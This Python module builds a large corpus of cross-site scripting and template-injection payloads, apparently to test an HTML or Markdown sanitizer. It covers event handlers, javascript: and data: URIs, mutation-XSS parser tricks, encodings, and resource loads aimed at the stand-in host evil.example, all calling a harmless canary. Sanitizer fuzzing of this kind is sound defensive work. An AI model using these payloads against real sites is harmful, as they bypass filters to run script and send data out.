"""What somebody might write, or bring in from elsewhere, so that it runs on the page: every tag with every trick.

Each calls `canary`, or asks a host that does not exist, where the page lets it.
"""

import base64
import itertools
from collections.abc import Iterator

RUNS = "canary()"
ELSEWHERE = "//evil.example/x"

TAGS = """
    a abbr applet area article audio b base bdo blink body br button canvas center command custom-tag data datalist
    details dialog div embed fieldset font form frame frameset h1 head hr html iframe image img input isindex keygen
    label legend li link listing main map mark marquee math menu meta meter noembed noscript object ol optgroup option
    output p param picture plaintext portal pre progress q ruby script select slot source span style summary svg table
    td template textarea th title tr track ul var video wbr xmp xss
""".split()
HANDLERS = """
    onload onerror onclick onmouseover onfocus onfocusin onblur onanimationstart onanimationend ontransitionend
    onbegin onend onrepeat onpointerenter onpointerrawupdate onscroll onscrollend onsecuritypolicyviolation
    onslotchange ontoggle onbeforetoggle onbeforematch onpageshow onpagehide onpopstate onhashchange onmessage
    onstorage onresize onunload onbeforeunload onwheel oncopy oncut onpaste ondrag ondrop oninput onbeforeinput
    onchange oninvalid onsubmit onreset onselect onselectionchange onkeydown onloadstart oncanplay onplay oncuechange
    onstart onfinish onbounce onreadystatechange onwebkitanimationstart oncontentvisibilityautostatechange onfocusout
""".split()
PROTOCOLS = (
    "javascript:canary()",
    "JaVaScRiPt:canary()",
    "java\tscript:canary()",
    "java\nscript:canary()",
    " javascript:canary()",
    "\x01javascript:canary()",
    "&#106;avascript:canary()",
    "&#x6A;avascript:canary()",
    "&#x0000006Aavascript:canary()",
    "javascript&colon;canary()",
    "java&Tab;script:canary()",
    "java&NewLine;script:canary()",
    "javascript:%63anary()",
    "\\u006aavascript:canary()",
    "vbscript:canary()",
    "livescript:canary()",
    "mocha:canary()",
    "view-source:javascript:canary()",
    "data:text/html,<script>canary()</script>",
    "data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='canary()'/>",
    "data:application/xhtml+xml,<x/>",
    "data:,x",
    "DATA:text/html,<script>canary()</script>",
    "feed:javascript:canary()",
    "blob:http://evil.example/1",
    "filesystem:http://evil.example/x",
    "file:///etc/passwd",
    "javascript://evil.example/%0acanary()",
    "//evil.example/x",
    "jar:http://evil.example!/x",
    "intent://evil.example#Intent;end",
    "ms-word:ofe|u|http://evil.example",
    "chrome://crash",
    "about:blank#canary()",
    "ws://evil.example",
    "https:evil.example",
    "http:/\\evil.example",
    "\\\\evil.example\\x",
)
VOID = {"onload": "svg", "onerror": "img", "ontoggle": "details", "onbegin": "svg"}

MUTATIONS = (
    '<svg></p><style><a id="</style><img src=1 onerror=canary()>">',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=canary()&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=canary()>",
    "<noscript><p title='</noscript><img src=x onerror=canary()>'>",
    "<svg><style>&lt;img src=1 onerror=canary()&gt;</style></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.canary()</script>'></foreignObject></svg>",
    "<math><annotation-xml encoding='text/html'><script>canary()</script></annotation-xml></math>",
    "<math href='javascript:canary()'>x</math>",
    "<svg><animate onbegin=canary() attributeName=x dur=1s></svg>",
    "<svg><a xlink:href='javascript:canary()'><text y=20>x</text></a></svg>",
    "<svg><a><animate attributeName=href values='javascript:canary()'/><text y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=canary()>#x'/></svg>",
    "<svg><set attributeName=onmouseover to=canary() /></svg>",
    "<svg><script href=//evil.example/x></script></svg>",
    "<svg><script>canary&#40;&#41;</script></svg>",
    "<svg><image href=//evil.example/x></svg>",
    "<select><template><img src=x onerror=canary()></template></select>",
    "<table><caption><svg><title><style></table><img src=x onerror=canary()>",
    "<xmp><p title='</xmp><img src=x onerror=canary()>'>",
    "<textarea><p title='</textarea><img src=x onerror=canary()>'>",
    "<title><p title='</title><img src=x onerror=canary()>'>",
    "<noembed><p title='</noembed><img src=x onerror=canary()>'>",
    "<plaintext><img src=x onerror=canary()>",
    "<!--><img src=x onerror=canary()>-->",
    "<!--!><img src=x onerror=canary()>-->",
    "<!-- --!><img src=x onerror=canary()>-->",
    "<![CDATA[<img src=x onerror=canary()>]]>",
    "<?xml version='1.0'?><img src=x onerror=canary()>",
    "<!DOCTYPE x [<!ENTITY y '<img src=x onerror=canary()>'>]>&y;",
    "<img src=x onerror\u00a0=canary()>",
    "<img/src=x/onerror=canary()>",
    "<img\x0csrc=x\x0conerror=canary()>",
    "<img src=x onerror=canary()//",
    "<<img src=x onerror=canary()>>",
    "<img src=`x` onerror=`canary()`>",
    "<img src='x' onerror='canary()' '\"`>",
    "<img src=x:x onerror=eval(atob('Y2FuYXJ5KCk='))>",
    "<img src=x onerror=&#99;&#97;&#110;&#97;&#114;&#121;&#40;&#41;>",
    "<scr<script>ipt>canary()</scr</script>ipt>",
    "<script\x20type='text/javascript'>canary()</script>",
    "<script/x>canary()</script>",
    "<script>canary()<!--",
    "<SCRIPT SRC=//evil.example/x></SCRIPT>",
    "<script type=module>import '//evil.example/x'</script>",
    '<script type=speculationrules>{"prefetch":[{"urls":["//evil.example/x"]}]}</script>',
    "<iframe srcdoc='<script>parent.canary()</script>'></iframe>",
    "<iframe src='javascript:parent.canary()'></iframe>",
    "<object data='javascript:canary()'></object>",
    "<embed src='javascript:canary()'>",
    "<form action='javascript:canary()'><button>x</button></form>",
    "<button formaction='javascript:canary()' form=seek>x</button>",
    "<input type=image src=//evil.example/x formaction='javascript:canary()'>",
    "<isindex action='javascript:canary()' type=submit value=x>",
    "<meta http-equiv=refresh content='0;url=javascript:canary()'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/x'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "<base href='//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x>",
    "<link rel=prefetch href=//evil.example/x><link rel=dns-prefetch href=//evil.example>",
    "<link rel=preconnect href=//evil.example><link rel=modulepreload href=//evil.example/x>",
    "<style>@import '//evil.example/x';</style>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<p style='background:url(//evil.example/x)'>x</p>",
    "<p style='x:expression(canary())'>x</p>",
    "<img src=//evil.example/x>",
    "<img srcset='//evil.example/x 2x'>",
    "<picture><source srcset=//evil.example/x><img></picture>",
    "<video poster=//evil.example/x><source src=//evil.example/x></video>",
    "<audio src=//evil.example/x autoplay></audio>",
    "<video><track default src=//evil.example/x></video>",
    "<body background=//evil.example/x><table background=//evil.example/x>",
    "<a href=x ping=//evil.example/x>x</a>",
    "<a href=/lock id=main name=goldseam data-module=write data-lock>x</a>",
    "<main id=main data-module='nothing'>x</main>",
    "<meta name=goldseam content=stolen><input name=key value=stolen>",
    "<form id=seek action=//evil.example/x method=post><input name=q></form>",
    "<div popover id=p onbeforetoggle=canary()>x</div><button popovertarget=p>y</button>",
    "<dialog open onclose=canary()><form method=dialog><button autofocus>x</button></form></dialog>",
    "<p contenteditable onbeforeinput=canary() autofocus>x</p>",
    "<p accesskey=x onclick=canary() tabindex=1 autofocus onfocus=canary()>x</p>",
    "<object type=text/x-scriptlet data=//evil.example/x></object>",
    "<template shadowrootmode=open><img src=x onerror=canary()></template>",
    "<div><template shadowrootmode=open><slot onslotchange=canary()></slot></template>x</div>",
    "</main></body><script>canary()</script>",
    "</textarea><script>canary()</script>",
    "</title><script>canary()</script>",
    "</script><script>canary()</script>",
    "--></style></script></textarea></title></noscript><img src=x onerror=canary()>",
    '"><img src=x onerror=canary()>',
    "'><img src=x onerror=canary()>",
    '" autofocus onfocus=canary() x="',
    "' autofocus onfocus=canary() x='",
    "`autofocus onfocus=canary()`",
    '"}</script><script>canary()</script>',
    '\\"};canary();//',
    "\u2028canary()//",
    "\ufeff<script>canary()</script>",
    "\0<script\0>canary()</script>",
    "<scr\0ipt>canary()</scr\0ipt>",
    "+ADw-script+AD4-canary()+ADw-/script+AD4-",
    "¼script¾canary()¼/script¾",
    "＜script＞canary()＜/script＞",
    "&lt;script&gt;canary()&lt;/script&gt;",
    "&amp;lt;script&amp;gt;canary()&amp;lt;/script&amp;gt;",
    "%3Cscript%3Ecanary()%3C/script%3E",
    "\\x3cscript\\x3ecanary()\\x3c/script\\x3e",
    "\\u003cscript\\u003ecanary()\\u003c/script\\u003e",
)

TEMPLATES = (
    "{{ asked.house }}",
    "{{7*7}}",
    "{% include '/etc/passwd' %}",
    "{# x #}",
    "${canary()}",
    "#{canary()}",
    "<%= canary() %>",
    "{{constructor.constructor('canary()')()}}",
    "{{''.__class__.__mro__}}",
    "%(num)s",
    "%s%n",
    "{0.__class__}",
    "{num}",
    "[[${canary()}]]",
    "@{canary()}",
    "{{{canary}}}",
    "<x v-on:click=canary()>",
    "<p x-init=canary()>",
    "<p hx-on:load=canary()>",
)


def html() -> Iterator[str]:
    """Every tag with handlers, every handler with a tag that has it."""
    for number, tag in enumerate(TAGS):
        one, two = HANDLERS[number % len(HANDLERS)], HANDLERS[(number * 7 + 3) % len(HANDLERS)]
        yield f"<{tag} {one}={RUNS} {two}='{RUNS}' src={ELSEWHERE} href='javascript:{RUNS}' autofocus>x</{tag}>"
        yield f"<{tag.upper()}/{one.upper()}\n=\n{RUNS}>"
    for handler in HANDLERS:
        tag = VOID.get(handler, "img")
        yield f"<{tag} {handler}={RUNS} src=x open autofocus tabindex=1>"
        yield f"<svg><animate {handler}={RUNS} attributeName=x dur=1s repeatCount=2></animate></svg>"
        yield f"<body {handler}={RUNS}><style>@keyframes x{{}}</style><xss style=animation-name:x {handler}={RUNS}>"


def markdown() -> Iterator[str]:
    """What Markdown itself could make of an address: links, pictures, references, automatic ones, in each other."""
    for number, address in enumerate(PROTOCOLS):
        yield f"[x]({address})"
        yield f"[x](<{address}>)"
        yield f"![x]({address})"
        yield f"<{address}>"
        yield f"[x][r{number}]\n\n[r{number}]: {address}"
        yield f'<a href="{address}">x</a>'
    for inner in (
        "<img src=x onerror=canary()>",
        '" onmouseover="canary()',
        "' onerror='canary()",
        "](javascript:canary())",
    ):
        yield f"[{inner}](http://ok.example)"
        yield f'[x](http://ok.example "{inner}")'
        yield f"![{inner}](http://evil.example/x)"
        yield f"![x](http://evil.example/x '{inner}')"
        yield f"[x](http://ok.example/{inner})"
        yield f"<http://ok.example/{inner}>"
        yield f"```{inner}\n{inner}\n```"
        yield f"`{inner}`"
        yield f"    {inner}"
        yield f"> - # {inner}"
        yield f"| a | {inner} |\n|---|---|\n| {inner} | b |"
        yield f"- [ ] {inner}"
        yield f"[^1]\n\n[^1]: {inner}"
        yield f"~~{inner}~~ **{inner}** *{inner}* ++{inner}++ =={inner}=="
        yield f"{inner}\n==="
        yield f"&#60;{inner}"
        yield f"\\<{inner}"
    yield "[![x](javascript:canary())](javascript:canary())"
    yield "[x](x 'a' onclick=canary())"
    yield "![x](x){onerror=canary()}"
    yield "# x {onclick=canary()}"
    yield "[a]: <javascript:canary()>\n[a]"
    yield "[" * 2000 + "x" + "](y)" * 2000
    yield "> " * 500 + "<script>canary()</script>"
    yield "*" * 3000 + "<script>canary()</script>"


def encoded() -> Iterator[str]:
    """The plainest of all, written in other ways."""
    plain = "<script>canary()</script>"
    yield "".join(f"&#{ord(c)};" for c in plain)
    yield "".join(f"&#x{ord(c):x};" for c in plain)
    yield "".join(f"&#{ord(c):07d}" for c in plain)
    yield "".join(f"%{ord(c):02x}" for c in plain)
    yield "".join(f"\\u{ord(c):04x}" for c in plain)
    yield base64.b64encode(plain.encode()).decode()
    yield plain[::-1] + "\u202e" + plain
    yield "\u200b".join(plain)
    yield plain.encode("utf-16").decode("latin-1")


def payloads() -> list[str]:
    """All of them, each once."""
    return list(dict.fromkeys(itertools.chain(html(), markdown(), encoded(), MUTATIONS, TEMPLATES)))
